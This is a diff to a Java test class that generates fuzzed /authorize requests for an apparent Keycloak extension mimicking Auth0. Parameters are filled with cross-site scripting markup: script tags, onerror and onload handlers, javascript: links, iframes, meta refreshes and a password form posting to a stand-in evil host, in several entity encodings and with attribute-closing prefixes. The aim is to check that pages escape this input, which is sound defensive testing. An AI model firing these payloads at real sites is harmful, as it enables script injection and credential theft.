@@ -1,6 +1,7 @@
 package io.github.kcauth0.hostile;
 
 import java.io.ByteArrayOutputStream;
+import java.net.URLDecoder;
 import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
@@ -11,6 +12,7 @@ import java.util.function.UnaryOperator;
 import com.fasterxml.jackson.databind.node.TextNode;
 import io.github.kcauth0.support.Auth0Domain;
 import io.github.kcauth0.support.Http;
+import io.github.kcauth0.support.RequestMarkup;
 import io.github.kcauth0.support.TestRealms;
 
 import static io.github.kcauth0.hostile.Gen.weighted;
@@ -377,6 +379,94 @@ final class HostileInputs {
         System.arraycopy(a, 0, joined, 0, a.length);
         System.arraycopy(b, 0, joined, a.length, b.length);
         return joined;
+    }
+
+    // ---- markup at /authorize
+
+    /** A query of /authorize as it goes on the wire, percent-encoded, a parameter maybe repeated. */
+    record AuthorizeQuery(String encoded) {
+        /** How a try shows its query in the test's name: decoded, cut at 400 characters. */
+        @Override
+        public String toString() {
+            String shown = URLDecoder.decode(encoded, StandardCharsets.UTF_8);
+            return shown.length() > 400 ? shown.substring(0, 400) + "…" : shown;
+        }
+    }
+
+    /** A plain /authorize request of the par-it realm: it shows the login page. */
+    static Map<String, String> authorizeRequest() {
+        return Http.form("client_id", "confidential-app", "response_type", "code", "redirect_uri", CALLBACK,
+                "scope", "openid", "state", "state-123", "code_challenge", CODE_CHALLENGE, "code_challenge_method", "S256");
+    }
+
+    /**
+     * The valid /authorize request with one to three parameters carrying markup: any Auth0 parameter /authorize
+     * reads (each can reach a page, the extension's or Keycloak's), a type inside authorization_details, the name
+     * of a repeated ext-* parameter, or a made-up name.
+     */
+    static Gen<AuthorizeQuery> markupInAuthorizeQueries() {
+        Gen<UnaryOperator<List<String[]>>> change = Gen.frequency(
+                weighted(8, Gen.combine(Gen.of(PAR_NAMES), markup(), HostileInputs::settingTo)),
+                weighted(1, markup().map(markup -> settingTo("authorization_details",
+                        "[{\"type\":" + TextNode.valueOf(markup) + "}]"))),
+                weighted(1, markup().map(markup -> (UnaryOperator<List<String[]>>) query -> {
+                    query.add(new String[] {"ext-" + markup, "1"});
+                    query.add(new String[] {"ext-" + markup, "2"});
+                    return query;
+                })),
+                weighted(1, markup().map(markup -> (UnaryOperator<List<String[]>>) query -> {
+                    query.add(new String[] {markup, markup});
+                    return query;
+                })));
+        return change.list(1, 3).map(changes -> {
+            List<String[]> query = new ArrayList<>();
+            authorizeRequest().forEach((name, value) -> query.add(new String[] {name, value}));
+            changes.forEach(each -> each.apply(query));
+            List<String> pairs = query.stream().map(p -> Http.urlEncode(p[0]) + "=" + Http.urlEncode(p[1])).toList();
+            return new AuthorizeQuery(String.join("&", pairs));
+        });
+    }
+
+    private static UnaryOperator<List<String[]>> settingTo(String name, String value) {
+        return query -> {
+            query.removeIf(p -> p[0].equals(name));
+            query.add(new String[] {name, value});
+            return query;
+        };
+    }
+
+    /**
+     * Markup a page could make an element of (a link, an image, a script, an event handler, a frame, a form, a
+     * refresh) as written or as HTML entities (named, numeric, encoded twice), maybe after text that closes an
+     * attribute or a tag, or after a value that gets the request further.
+     */
+    static Gen<String> markup() {
+        Gen<String> paths = Gen.strings(ALPHA, 1, 8).map(("https://" + RequestMarkup.EVIL_HOST + "/")::concat);
+        String script = "alert('" + RequestMarkup.SCRIPT_MARKER + "')";
+        Gen<String> elements = Gen.oneOf(
+                paths.map(url -> "<a href=\"" + url + "\">" + RequestMarkup.LINK_TEXT + "</a>"),
+                paths.map(url -> "<a href=" + url + ">" + RequestMarkup.LINK_TEXT),
+                paths.map(url -> "<img src=\"" + url + "\" alt=\"" + RequestMarkup.LINK_TEXT + "\">"),
+                paths.map(url -> "<img src=\"" + url + "\" onerror=\"" + script + "\">"),
+                paths.map(url -> "<script src=\"" + url + "\"></script>"),
+                Gen.just("<script>" + script + "</script>"),
+                Gen.just("<svg onload=\"" + script + "\"></svg>"),
+                Gen.just("<a href=\"javascript:" + script + "\">" + RequestMarkup.LINK_TEXT + "</a>"),
+                paths.map(url -> "<iframe src=\"" + url + "\"></iframe>"),
+                paths.map(url -> "<form action=\"" + url + "\"><input name=\"password\"></form>"),
+                paths.map(url -> "<meta http-equiv=\"refresh\" content=\"0;url=" + url + "\">"));
+        Gen<UnaryOperator<String>> encodings = Gen.of(
+                text -> text,
+                HostileInputs::namedEntities,
+                text -> text.replace("<", "&#60;").replace(">", "&#x3E;").replace("\"", "&#34;"),
+                text -> namedEntities(text).replace("&", "&amp;"));
+        Gen<String> before = Gen.of("", "", "x\">", "'>", "</p></div>", TestRealms.API, "openid ", CALLBACK + "?next=",
+                "urn:ietf:params:oauth:request_uri:", TestRealms.ORGANIZATION_ALIAS);
+        return Gen.combine(before, elements, encodings, (prefix, element, encoding) -> prefix + encoding.apply(element));
+    }
+
+    private static String namedEntities(String text) {
+        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;");
     }
 
     /** The valid /oauth/par request of the par-it realm. */
